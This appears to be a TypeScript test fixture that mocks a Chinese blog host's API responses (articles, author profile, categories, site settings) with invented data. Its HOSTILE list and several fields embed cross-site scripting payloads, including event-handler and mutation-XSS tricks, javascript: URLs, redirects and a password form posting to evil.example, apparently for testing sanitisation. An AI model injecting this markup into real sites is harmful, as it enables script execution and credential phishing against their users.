/** Responses of existing hosts, with invented data. */

export const ARTICLES = 31;
const CATEGORIES = ['有限元', '流体', '网格'];
const TAGS = ['网格', '收敛', '湍流', '接触'];

/** Unsanitized markup as stored by an existing host (XSS). */
export const HOSTILE = [
  '<script>window.ran = 1</script>',
  '<img src="x" onerror="window.ran = 2">',
  '<svg onload="window.ran = 3"><script>window.ran = 4</script></svg>',
  '<iframe srcdoc="<script>parent.ran = 5</script>"></iframe>',
  '<a href="java&#10;script:window.ran = 6">链接</a>',
  '<form action="https://evil.example/"><input name="password"><button>继续</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<div id="main" class="toasts" style="position:fixed;inset:0;background:red">盖住</div>',
  '<math><mtext><table><mglyph><style><img src onerror="window.ran = 7"></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src onerror=window.ran=8>"></noscript>',
].join('\n');

const BODY = `<h1>单元</h1><p>正文<strong>加粗</strong>，公式 <code>K u = f</code>。</p>
<h2 id="x" onclick="window.ran = 9">装配</h2><pre><code class="language-c">int main() { return 0; }</code></pre>
<table><tr><td align="right">1</td></tr></table><p><img src="https://img.example/a.png" alt="网格"></p>${HOSTILE}`;

const time = (id: number) => `2026-${String(1 + (id % 10)).padStart(2, '0')}-15 08:30:00`;

/** A list item: booleans in mixed types, unknown fields null or missing. */
export const item = (id: number) => ({
  id,
  userId: '7',
  nickname: '主机作者',
  title: `第 ${id} 篇：<b>网格</b>`,
  avatar: id % 3 ? null : 'https://img.example/cover.png',
  summary: id % 5 ? `摘要 ${id} <script>window.ran = 10</script>` : null,
  isStick: id === 3 ? 1 : 0,
  isOriginal: id % 2 ? '1' : true,
  isPublish: 1,
  quantity: 100 + id,
  likeCount: null,
  isCollect: false,
  categoryId: 1 + (id % CATEGORIES.length),
  categoryName: CATEGORIES[id % CATEGORIES.length],
  createTime: time(id),
  tagList: id % 4 ? [{ id: 1, name: '网格', clickVolume: 3 }] : null,
});

/** Locked articles with `READ_TYPE`: like, reading code, payment. */
export const LOCKED: Readonly<Record<number, number>> = { 5: 2, 6: 3, 8: 5 };

/** A whole article without contents or counts, author apart; the text is complete even if `isLocked`. */
export const info = (id: number, isLocked = false) => ({
  ...item(id),
  content: BODY,
  contentMd: null,
  keywords: null,
  originalUrl: 'javascript:alert(1)',
  readType: LOCKED[id] ?? 0,
  activeReadType: isLocked ? 0 : 1,
  isLike: false,
  isCollect: 0,
  isFollowed: 0,
  category: { id: 1 + (id % CATEGORIES.length), name: CATEGORIES[id % CATEGORIES.length] },
  updateTime: null,
});

export const PERSON = {
  id: '7',
  nickname: '主机作者',
  avatar: null,
  intro: null,
  webSite: 'javascript:alert(1)',
  loginType: '1',
  isFollowed: 0,
  articleCount: '31',
  createTime: '2024-01-01 00:00:00',
};

export const categories = () => CATEGORIES.map((name, i) => ({ id: i + 1, name, sort: i, icon: null }));
export const tags = () => TAGS.map((name, i) => ({ id: i + 1, name }));

export const column = (id: number) => ({
  id,
  name: `专栏 ${id}`,
  cover: null,
  intro: '<b>简介</b>',
  catNum: 1,
  articleNum: 2,
  status: 1,
});

export const donors = () =>
  Array.from({ length: 3 }, (_, i) => ({
    id: i + 1,
    nickname: `捐赠者 ${i + 1}`,
    avatar: null,
    money: 100 * (i + 1),
    createTime: time(i),
  }));

export const WEBSITE = {
  logo: '',
  name: '某主机',
  summary: '已有的站点',
  keyword: null,
  authorAvatar: null,
  recordNum: '备00000000号',
  webUrl: null,
  editorUrl: 'https://editor.example/',
  showList: '1,2',
  loginTypeList: '2,5,6',
  bulletin: '公告 <script>window.ran = 11</script>',
  aboutMe: `<p>关于这台主机</p>${HOSTILE}`,
};
